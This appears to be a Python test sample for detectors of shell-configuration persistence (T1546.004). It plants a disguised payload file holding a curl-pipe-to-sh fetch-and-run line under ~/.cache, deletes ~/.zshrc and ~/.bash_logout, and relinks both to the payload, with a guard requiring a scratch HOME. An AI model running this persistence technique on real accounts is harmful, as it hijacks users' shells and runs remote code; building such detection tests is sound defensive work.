# technique: T1546.004
"""Unix Shell Configuration Modification (T1546.004), spelled as a
symbolic link: ~/.zshrc and ~/.bash_logout become links to a file the
attacker controls.

The payload is written under ~/.cache (an unremarkable path), then
os.symlink() makes ~/.zshrc point at it and os.link() (a hard link) makes
~/.bash_logout the same inode. Neither start-up file is ever opened for
writing: each appears only as the destination of a link call.

A good detector raises a medium or high alert: a shell start-up file is
created as a link to another file.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

home = os.path.expanduser("~")
cache = os.path.join(home, ".cache", "fontconfig")
os.makedirs(cache, exist_ok=True)
payload = os.path.join(cache, "fc.conf")
with open(payload, "w") as f:
    f.write("curl -fsS http://127.0.0.1:9/p 2>/dev/null | sh &\n")
for name in (".zshrc", ".bash_logout"):
    path = os.path.join(home, name)
    if os.path.lexists(path):
        os.remove(path)
os.symlink(payload, os.path.join(home, ".zshrc"))
os.link(payload, os.path.join(home, ".bash_logout"))
